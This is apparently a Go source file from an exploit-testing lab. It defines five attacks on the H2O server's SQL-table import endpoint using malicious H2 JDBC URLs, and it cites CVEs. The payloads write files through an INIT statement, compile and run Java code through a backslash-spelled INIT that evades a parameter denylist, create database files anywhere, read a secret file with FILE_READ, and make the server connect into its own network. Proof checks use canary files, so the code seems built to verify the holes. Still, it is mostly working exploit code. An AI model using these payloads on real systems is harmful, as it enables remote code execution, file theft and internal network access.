package attack

import (
	"net/url"
	"strings"
)

// h2oJDBC make H2O open a database of the attacker's choice. H2O itself has no driver; these need one on its class path, as everybody has who
// imports tables: H2's here, of Debian.
var h2oJDBC = []Attack{
	{
		ID: "h2o/jdbc-init", CVE: []string{"CVE-2024-8862", "CVE-2024-45758"}, Doc: "has the driver run a statement while it connects, which writes a file", Works: h2oBoth[1:],
		Steps: table("jdbc:h2:mem:lab${nonce};INIT=CALL CSVWRITE('${canary-file}', 'SELECT 1 AS A')", "(SELECT 1 AS A)"),
		Proof: Proof{File: "${canary-file}"},
	},
	{
		ID: "h2o/jdbc-code", Doc: "compiles and runs Java source while the driver connects; the parameter is spelled with backslashes, which the newest release's list of bad parameters does not expect",
		Works: h2oBoth,
		Steps: table(`jdbc:h2:mem:lab${nonce};\I\N\I\T=CREATE ALIAS LAB AS 'void lab() throws Exception { new java.io.FileOutputStream("${canary-file}").close()\; }'\;CALL LAB()`, "(SELECT 1 AS A)"),
		Proof: Proof{File: "${canary-file}"},
	},
	{
		ID: "h2o/jdbc-file", Doc: "makes the files of a database anywhere", Works: h2oBoth,
		Steps: table("jdbc:h2:file:${canary-dir}/lab", "(SELECT 1 AS A)"),
		Proof: Proof{File: "${canary-dir}/lab.mv.db"},
	},
	{
		ID: "h2o/jdbc-query", Doc: "reads a file by a query in the place of a table's name", Works: h2oBoth,
		Steps: append(table("jdbc:h2:mem:lab${nonce}", "(SELECT CAST(FILE_READ('${secret-file}', NULL) AS VARCHAR) AS A)"), get("/3/DownloadDataset?frame_id=${frame|url}")),
		Proof: Proof{Answer: "${secret}"},
	},
	{
		ID: "h2o/jdbc-connect", Doc: "makes the server connect to a database in its own network", Works: h2oBoth,
		Steps: table("jdbc:h2:tcp://${listener}/lab", "(SELECT 1 AS A)")[:1],
		Proof: Proof{Heard: "connection"},
	},
}

// table imports a table (or a query in its place), and waits until that is done.
func table(connection, name string) []Step {
	escape := func(s string) string {
		return strings.NewReplacer("%24%7B", "${", "%7D", "}", "+", "%20").Replace(url.QueryEscape(s))
	}
	step := form("/99/ImportSQLTable", "connection_url="+escape(connection)+"&table="+escape(name)+"&columns=*&username=sa&password=&use_temp_table=false")
	step.Save = map[string]string{"job": "key.name", "frame": "dest.name"}
	return []Step{step, labWait}
}
